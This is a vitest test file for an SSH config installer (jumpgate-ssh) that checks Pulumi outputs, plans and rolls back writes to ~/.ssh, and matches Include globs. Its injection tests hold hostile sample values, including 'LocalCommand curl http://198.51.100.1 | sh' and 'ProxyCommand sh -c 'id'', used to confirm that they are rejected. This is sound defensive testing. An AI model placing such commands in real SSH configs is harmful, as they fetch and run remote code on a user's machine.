// The installer's core without the CLI: the checks on the outputs, the plan (which files, which
// content, which mode) and its application, each on its own. No ssh needed here; cli.test.ts runs the
// command and judges the result with the real `ssh -G`.
import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { Action, apply } from "../../cli/fsplan";
import {
    exampleHost,
    INCLUDE_MARK,
    InstallOptions,
    markerLine,
    planInstall,
    planUninstall,
    sectionBegin,
    sectionEnd,
} from "../../cli/install";
import { parseSshVersion, SshVersion } from "../../cli/openssh";
import { CliError, JumpgateOutputs, parseOutputs, shortStackName } from "../../cli/outputs";
import { globMatch, includeCovers, parseConf } from "../../cli/sshconf";
import { Fixtures, fixtures, json } from "./fixtures";
import { cleanupHomes, snapshotTree, tempHome } from "./home";

const V92 = parseSshVersion("OpenSSH_9.2p1 Debian-2+deb12u10, OpenSSL 3.0.19 27 Jan 2026")!;
const V84 = parseSshVersion("OpenSSH_8.4p1 Debian-5+deb11u3, OpenSSL 1.1.1w  11 Sep 2023")!;
const V72 = parseSshVersion("OpenSSH_7.2p2 Ubuntu-4ubuntu2.10, OpenSSL 1.0.2g  1 Mar 2016")!;
const NOW = new Date("2026-11-20T10:00:00Z");

let fx: Fixtures;
beforeAll(async () => {
    fx = await fixtures();
});
afterAll(cleanupHomes);

/** Options for installing into `home` as the operator whose $HOME and passwd home it is. */
const asOperator = (home: string, sshVersion: SshVersion | undefined = V92, extra: Partial<InstallOptions> = {}) => ({
    home,
    envHome: home,
    passwdHome: home,
    force: false,
    sshVersion,
    now: NOW,
    ...extra,
});

const outputs = (o: Record<string, unknown>, stack?: string): JumpgateOutputs =>
    parseOutputs(json(o), "outputs.json", stack);

function rejects(text: string, message: RegExp, stack?: string): void {
    let err: unknown;
    try {
        parseOutputs(text, "outputs.json", stack);
    } catch (e) {
        err = e;
    }
    expect(err).toBeInstanceOf(CliError);
    expect((err as Error).message).toMatch(message);
}

const writes = (actions: Action[]) =>
    Object.fromEntries(
        actions.flatMap((a) => (a.kind === "write" ? [[a.path, { content: a.content, mode: a.mode }]] : [])),
    );

describe("the outputs are checked before anything is planned", () => {
    it("accepts the program's outputs and reads the stack from the config", () => {
        const o = outputs(fx.dev);
        expect(o.stack).toBe("dev");
        expect(o.privateKeyOpenssh).toMatch(/^-----BEGIN OPENSSH PRIVATE KEY-----/);
        expect(outputs(fx.chain).stack).toBe("prod");
        expect(outputs(fx.byo).privateKeyOpenssh).toBeUndefined();
        expect(outputs(fx.dev, "acme/jumpgate/dev").stack).toBe("dev");
    });

    it("names what is wrong with bad JSON", () => {
        rejects(
            "{ not json",
            /outputs\.json: not JSON .*expected the output of: pulumi stack output --json --show-secrets/,
        );
        rejects("", /not JSON \(it is empty\)/);
        rejects("[1,2]", /JSON is an array, expected the object printed by: pulumi stack output --json --show-secrets/);
        rejects("null", /JSON is null/);
    });

    it("names a missing or mistyped output and lists the ones present", () => {
        const { knownHosts: _, ...noKnownHosts } = fx.dev;
        rejects(
            json(noKnownHosts),
            /output "knownHosts" is missing \(outputs present: auditAlarmTopicArn, auditLogGroupName, bastionPublicIp, privateKeyOpenssh/,
        );
        rejects(json({ ...fx.dev, sshConfig: 42 }), /output "sshConfig" is a number, expected a string/);
        rejects(json({ targets: {} }), /output "sshConfig" is missing .*is this a jumpgate stack/);
    });

    it("asks for --show-secrets when the key is redacted", () => {
        rejects(json({ ...fx.dev, privateKeyOpenssh: "[secret]" }), /"privateKeyOpenssh" is redacted.*--show-secrets/);
    });

    it("refuses a private key that is not an OpenSSH key", () => {
        const pem = "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIF\n-----END PRIVATE KEY-----\n";
        rejects(json({ ...fx.dev, privateKeyOpenssh: pem }), /"privateKeyOpenssh" is not an OpenSSH private key/);
        const notKey = "-----BEGIN OPENSSH PRIVATE KEY-----\naGVsbG8=\n-----END OPENSSH PRIVATE KEY-----";
        rejects(json({ ...fx.dev, privateKeyOpenssh: notKey }), /no openssh-key-v1 header/);
    });

    it("refuses the outputs of another stack than the one asked for", () => {
        rejects(json(fx.dev), /these are the outputs of stack "dev", not "prod"/, "prod");
        expect(() => shortStackName("my stack")).toThrow(/not a stack name/);
        expect(shortStackName("acme/jumpgate/dev")).toBe("dev");
    });

    it("refuses config an outputs file could smuggle into ~/.ssh", () => {
        const cfg = String(fx.dev.sshConfig);
        const inject = (line: string) => json({ ...fx.dev, sshConfig: cfg.replace("  ForwardAgent no", `  ${line}`) });
        rejects(
            inject("LocalCommand curl http://198.51.100.1 | sh"),
            /"LocalCommand curl .*" is not something jumpgate renders/,
        );
        rejects(inject("ProxyCommand sh -c 'id'"), /ProxyCommand must be "ssh -W %h:%p <bastion alias>"/);
        rejects(inject("LocalForward 0.0.0.0:8080 10.42.128.10:80"), /LocalForward must listen on 127\.0\.0\.1/);
        rejects(json({ ...fx.dev, sshConfig: `${cfg}\nHost *\n  User x\n` }), /"Host \*" is not a jumpgate host alias/);
        rejects(
            json({ ...fx.dev, sshConfig: "Host dev-bastion\n  HostName 1.2.3.4\n" }),
            /does not start with "# jumpgate stack/,
        );
    });

    it("refuses known_hosts that do not pin every host of the config", () => {
        const kh = String(fx.dev.knownHosts).split("\n");
        rejects(
            json({ ...fx.dev, knownHosts: kh.filter((l) => !l.startsWith("dev-db-1")).join("\n") }),
            /pins no key for dev-db-1/,
        );
        rejects(
            json({ ...fx.dev, knownHosts: "dev-bastion ssh-ed25519 bm90IGEga2V5\n" }),
            /not a valid ssh-ed25519 key/,
        );
        rejects(
            json({ ...fx.dev, knownHosts: "garbage\n" }),
            /"knownHosts" line 1 is not "<alias> <key type> <base64 key>"/,
        );
    });
});

describe("team access outputs are checked too", () => {
    it("reads the operators, roles, role configs and CA of a team stack", () => {
        const access = outputs(fx.team).access!;
        expect(access.operatorPrincipals).toEqual({ alice: ["admin"], bob: ["dba"] });
        expect(access.roleAccounts.dba).toBe("ops-dba");
        expect(Object.keys(access.roleSshConfigs!).sort()).toEqual(["admin", "dba", "developer"]);
        expect(access.userCa).toBe("stack");
        expect(access.userCaPrivateKeyOpenssh).toMatch(/^-----BEGIN OPENSSH PRIVATE KEY-----/);
        expect(outputs(fx.dev).access).toBeUndefined();
    });

    it("a redacted CA key is simply not there (login says what to do); KMS keys imply the kms CA", () => {
        // An older stack publishes no userCa: KMS key ARNs alone mean the kms CA.
        const { userCa: _published, ...older } = fx.team;
        const access = outputs({ ...older, userCaPrivateKeyOpenssh: "[secret]", userCaKmsKeyArns: {} }).access!;
        expect(access.userCaPrivateKeyOpenssh).toBeUndefined();
        expect(access.userCa).toBe("kms");
    });

    it("names a mistyped team output", () => {
        rejects(
            json({ ...fx.team, operatorPrincipals: { bob: "dba" } }),
            /"operatorPrincipals.bob" is a string, expected lists/,
        );
        rejects(json({ ...fx.team, userCa: "vault" }), /output "userCa" is "vault", expected "kms" or "stack"/);
        rejects(json({ ...fx.team, certificateMaxValiditySeconds: "8h" }), /"certificateMaxValiditySeconds" is "8h"/);
    });

    it("checks each role's config like sshConfig: the same stack, pinned hosts, nothing smuggled", () => {
        const roles = fx.team.roleSshConfigs as Record<string, { sshConfig: string }>;
        const dba = (sshConfig: string) =>
            json({ ...fx.team, roleSshConfigs: { ...roles, dba: { ...roles.dba, sshConfig } } });
        rejects(
            dba(roles.dba!.sshConfig.replace("# jumpgate stack team:", "# jumpgate stack dev:")),
            /for another stack/,
        );
        rejects(
            dba(roles.dba!.sshConfig.replace("  ForwardAgent no", "  LocalCommand id")),
            /"roleSshConfigs.dba.sshConfig" line \d+: "LocalCommand id" is not something jumpgate renders/,
        );
        rejects(
            dba(roles.dba!.sshConfig.replaceAll("HostKeyAlias team-db-1", "HostKeyAlias team-db-9")),
            /pins no key for team-db-9/,
        );
    });
});

describe("the OpenSSH version", () => {
    it("is read from ssh -V", () => {
        expect(V92).toMatchObject({ major: 9, minor: 2 });
        expect(parseSshVersion("OpenSSH_for_Windows_8.6p1, LibreSSL 3.4.3")).toMatchObject({ major: 8, minor: 6 });
        expect(parseSshVersion("Dropbear v2022.83")).toBeUndefined();
    });
});

describe("planInstall", () => {
    it("plans the config, the pinned keys, the key and the Include without writing anything", () => {
        const home = tempHome();
        const before = snapshotTree(home);
        const plan = planInstall(outputs(fx.dev), asOperator(home));
        expect(snapshotTree(home)).toEqual(before);

        const ssh = join(home, ".ssh");
        expect(plan.actions.map((a) => [a.kind, a.path])).toEqual([
            ["mkdir", ssh],
            ["mkdir", join(ssh, "config.d")],
            ["write", join(ssh, "jumpgate-dev_known_hosts")],
            ["write", join(ssh, "jumpgate-dev_ed25519")],
            ["write", join(ssh, "config.d", "jumpgate-dev.conf")],
            ["write", join(ssh, "config")],
            ["write", join(ssh, "config.d", ".jumpgate-dev.json")],
        ]);
        expect(plan.actions.filter((a) => a.kind !== "mkdir").every((a) => "mode" in a && a.mode === 0o600)).toBe(true);
        expect(plan.actions.filter((a) => a.kind === "mkdir").every((a) => "mode" in a && a.mode === 0o700)).toBe(true);
        expect(plan.example).toBe("dev-app-1");

        const w = writes(plan.actions);
        expect(w[join(ssh, "jumpgate-dev_ed25519")]!.content).toBe(fx.dev.privateKeyOpenssh);
        expect(w[join(ssh, "jumpgate-dev_known_hosts")]!.content).toBe(
            `${markerLine("dev")}\n${String(fx.dev.knownHosts)}`,
        );
        expect(w[join(ssh, "config")]!.content).toBe(`${INCLUDE_MARK}\nInclude config.d/*\n`);
    });

    it("rewrites only the key, known_hosts and control socket paths, to absolute paths in the home", () => {
        const home = tempHome();
        const plan = planInstall(outputs(fx.dev), asOperator(home));
        const conf = writes(plan.actions)[join(home, ".ssh", "config.d", "jumpgate-dev.conf")]!.content.split("\n");
        const original = String(fx.dev.sshConfig).split("\n");
        expect(conf[0]).toBe(markerLine("dev"));
        expect(conf.slice(1)).toHaveLength(original.length);
        conf.slice(1).forEach((line, i) => {
            const was = original[i]!;
            if (/^\s*IdentityFile /.test(was)) expect(line).toBe(`  IdentityFile ${home}/.ssh/jumpgate-dev_ed25519`);
            else if (/^\s*UserKnownHostsFile /.test(was))
                expect(line).toBe(`  UserKnownHostsFile ${home}/.ssh/jumpgate-dev_known_hosts`);
            else if (/^\s*ControlPath /.test(was)) expect(line).toBe(`  ControlPath ${home}/.ssh/cm-jumpgate-%C`);
            else expect(line).toBe(was);
        });
        expect(conf.join("\n")).not.toContain("~");
    });

    it("writes an absolute, quoted Include when ssh's $HOME is another directory", () => {
        const home = tempHome("my home");
        const plan = planInstall(outputs(fx.dev), { ...asOperator(home), envHome: "/root", passwdHome: "/root" });
        expect(writes(plan.actions)[join(home, ".ssh", "config")]!.content).toBe(
            `${INCLUDE_MARK}\nInclude "${home}/.ssh/config.d/*"\n`,
        );
    });

    it("keeps the IdentityFile of a key the operator brought, and writes no key", () => {
        const home = tempHome();
        const plan = planInstall(outputs(fx.byo), asOperator(home));
        const w = writes(plan.actions);
        expect(Object.keys(w)).not.toContain(join(home, ".ssh", "jumpgate-byo_ed25519"));
        const conf = w[join(home, ".ssh", "config.d", "jumpgate-byo.conf")]!.content;
        expect(conf).toContain("  IdentityFile ~/.ssh/id_ed25519\n");
        expect(conf).toContain(`  UserKnownHostsFile ${home}/.ssh/jumpgate-byo_known_hosts\n`);
    });

    it("installs the ProxyCommand variant as a block in ~/.ssh/config for OpenSSH before 7.3 (no Include there)", () => {
        const home = tempHome();
        mkdirSync(join(home, ".ssh"), { mode: 0o700 });
        writeFileSync(join(home, ".ssh", "config"), "ServerAliveInterval 77\n");
        const plan = planInstall(outputs(fx.dev), asOperator(home, V72));
        expect(plan.style).toBe("proxycommand");
        expect(plan.layout).toBe("inline");
        const w = writes(plan.actions);
        expect(Object.keys(w)).not.toContain(join(home, ".ssh", "config.d", "jumpgate-dev.conf"));
        const cfg = w[join(home, ".ssh", "config")]!.content;
        expect(cfg.startsWith(`${sectionBegin("dev")}\n# jumpgate stack dev:`)).toBe(true);
        expect(cfg).toContain(`\nHost *\n${sectionEnd("dev")}\n\nServerAliveInterval 77\n`);
        expect(cfg).toContain("  ProxyCommand ssh -W %h:%p dev-bastion\n");
        expect(cfg).not.toMatch(/ProxyJump|^Include/im);
        expect(plan.notes.join("\n")).toMatch(/OpenSSH 7\.2 has neither ProxyJump nor Include/);
    });

    it("points the ProxyCommand's ssh at the installed config when it is not the passwd home's", () => {
        const home = tempHome("a b");
        const plan = planInstall(outputs(fx.dev), { ...asOperator(home, V72), passwdHome: "/root" });
        expect(writes(plan.actions)[join(home, ".ssh", "config")]!.content).toContain(
            `  ProxyCommand ssh -F '${home}/.ssh/config' -W %h:%p dev-bastion\n`,
        );
    });

    it("refuses OpenSSH older than 6.7 and drops SessionType before 8.7", () => {
        const home = tempHome();
        expect(() => planInstall(outputs(fx.dev), asOperator(home, parseSshVersion("OpenSSH_6.6.1p1")))).toThrow(
            /OpenSSH 6\.6 is too old for jumpgate/,
        );
        const conf = (v: SshVersion) =>
            writes(planInstall(outputs(fx.chain), asOperator(home, v)).actions)[
                join(home, ".ssh", "config.d", "jumpgate-prod.conf")
            ]!.content;
        expect(conf(V92)).toContain("  SessionType none\n");
        expect(conf(V84)).not.toContain("SessionType");
        expect(conf(V84)).toContain("  LocalForward 127.0.0.1:15432 ");
    });

    it("suggests a target, not a hop or a tunnel, to try", () => {
        expect(exampleHost(parseConf(String(fx.chain.sshConfig)))).toBe("prod-app-1");
    });

    it("refuses to overwrite files it did not write, unless forced (with a backup)", () => {
        const home = tempHome();
        mkdirSync(join(home, ".ssh", "config.d"), { recursive: true, mode: 0o700 });
        writeFileSync(join(home, ".ssh", "config.d", "jumpgate-dev.conf"), "Host mine\n");
        writeFileSync(join(home, ".ssh", "jumpgate-dev_ed25519"), "my own key\n", { mode: 0o600 });
        expect(() => planInstall(outputs(fx.dev), asOperator(home))).toThrow(
            /refusing to overwrite file\(s\) jumpgate-ssh did not write: .*jumpgate-dev_ed25519 \(private key\), .*jumpgate-dev\.conf \(ssh config\).*--force/,
        );
        const forced = planInstall(outputs(fx.dev), asOperator(home, V92, { force: true }));
        const replaced = forced.actions.filter((a) => a.kind === "write" && a.change === "replace");
        expect(replaced.map((a) => a.path)).toEqual([
            join(home, ".ssh", "jumpgate-dev_ed25519"),
            join(home, ".ssh", "config.d", "jumpgate-dev.conf"),
        ]);
        expect(replaced.every((a) => a.kind === "write" && a.backup?.includes(".jumpgate-bak-20261120T100000Z"))).toBe(
            true,
        );
    });

    it("tightens an existing ~/.ssh that others can read to 0700", () => {
        const home = tempHome();
        mkdirSync(join(home, ".ssh"));
        chmodSync(join(home, ".ssh"), 0o755);
        const plan = planInstall(outputs(fx.dev), asOperator(home));
        expect(plan.actions[0]).toEqual({ kind: "chmod", path: join(home, ".ssh"), mode: 0o700, from: 0o755 });
    });

    it("plans nothing the second time", () => {
        const home = tempHome();
        apply(planInstall(outputs(fx.dev), asOperator(home)).actions);
        const again = planInstall(outputs(fx.dev), asOperator(home));
        expect(again.actions).toEqual([]);
        expect(again.unchanged).toHaveLength(5);
    });

    it("undoes every step when one fails half-way", () => {
        const home = tempHome();
        mkdirSync(join(home, ".ssh"), { mode: 0o700 });
        writeFileSync(join(home, ".ssh", "config"), "Host other\n  HostName 192.0.2.1\n", { mode: 0o600 });
        const before = snapshotTree(home);
        const plan = planInstall(outputs(fx.dev), asOperator(home));
        // The last step (the manifest) cannot be renamed onto a directory: everything before it is undone.
        mkdirSync(join(home, ".ssh", "config.d"), { mode: 0o700 });
        mkdirSync(join(home, ".ssh", "config.d", ".jumpgate-dev.json"));
        const steps = plan.actions.filter((a) => a.path !== join(home, ".ssh", "config.d"));
        expect(() => apply(steps)).toThrow(/failed at .*\.jumpgate-dev\.json.*everything done before it was undone/);
        const after = snapshotTree(home);
        delete after[join(home, ".ssh", "config.d")];
        delete after[join(home, ".ssh", "config.d", ".jumpgate-dev.json")];
        expect(after).toEqual(before);
    });
});

describe("planUninstall", () => {
    it("removes what the manifest lists and refuses files changed since", () => {
        const home = tempHome();
        apply(planInstall(outputs(fx.dev), asOperator(home)).actions);
        const key = join(home, ".ssh", "jumpgate-dev_ed25519");
        writeFileSync(key, "changed\n");
        const opts = { home, envHome: home, passwdHome: home, stack: "dev", force: false, now: NOW };
        expect(() => planUninstall(opts)).toThrow(
            /refusing to remove file\(s\) changed since .*jumpgate-dev_ed25519.*--force/,
        );
        apply(planUninstall({ ...opts, force: true }).actions);
        expect(existsSync(join(home, ".ssh"))).toBe(false);
    });

    it("says so when the stack is not installed", () => {
        const home = tempHome();
        const plan = planUninstall({ home, passwdHome: home, stack: "dev", force: false, now: NOW });
        expect(plan.actions).toEqual([]);
        expect(plan.notes[0]).toMatch(/stack dev is not installed/);
    });
});

describe("Include coverage", () => {
    const file = "/home/op/.ssh/config.d/jumpgate-dev.conf";
    const covers = (cfg: string) => includeCovers(parseConf(cfg), file, "/home/op");

    it("resolves ~ and relative patterns under ~/.ssh, as glob(3) does", () => {
        expect(covers("Include config.d/*\n")).toBe(true);
        expect(covers("Include ~/.ssh/config.d/*.conf\n")).toBe(true);
        expect(covers("Include /home/op/.ssh/config.d/jumpgate-*\n")).toBe(true);
        expect(covers('Include "/home/op/.ssh/config.d/*" other\n')).toBe(true);
        expect(covers("Include config.d/work-*\n")).toBe(false);
        // $HOME is not this home: only absolute patterns reach it.
        expect(includeCovers(parseConf("Include config.d/*\n"), file, undefined)).toBe(false);
        expect(includeCovers(parseConf("Include /home/op/.ssh/config.d/*\n"), file, undefined)).toBe(true);
    });

    it("counts only Includes before the first Host or Match block", () => {
        expect(covers("Host work\n  User me\nInclude config.d/*\n")).toBe(false);
        expect(covers("# mine\nInclude config.d/*\nHost work\n")).toBe(true);
    });

    it("matches like glob(3): no crossing /, no leading dot", () => {
        expect(globMatch("/a/*", "/a/b")).toBe(true);
        expect(globMatch("/a/*", "/a/b/c")).toBe(false);
        expect(globMatch("/a/*", "/a/.hidden")).toBe(false);
        expect(globMatch("/a/[!x]?", "/a/yz")).toBe(true);
        expect(globMatch("/a/[!x]?", "/a/xz")).toBe(false);
    });
});

it("keeps the manifest out of `Include config.d/*` (a dot file)", () => {
    const home = tempHome();
    apply(planInstall(outputs(fx.dev), asOperator(home)).actions);
    const manifest = JSON.parse(readFileSync(join(home, ".ssh", "config.d", ".jumpgate-dev.json"), "utf8")) as {
        files: { path: string }[];
        hosts: string[];
    };
    expect(manifest.hosts).toEqual(["dev-bastion", "dev-app-1", "dev-db-1"]);
    expect(manifest.files.map((f) => f.path.slice(home.length))).toEqual([
        "/.ssh/jumpgate-dev_known_hosts",
        "/.ssh/jumpgate-dev_ed25519",
        "/.ssh/config.d/jumpgate-dev.conf",
    ]);
    expect(globMatch(`${home}/.ssh/config.d/*`, `${home}/.ssh/config.d/.jumpgate-dev.json`)).toBe(false);
});
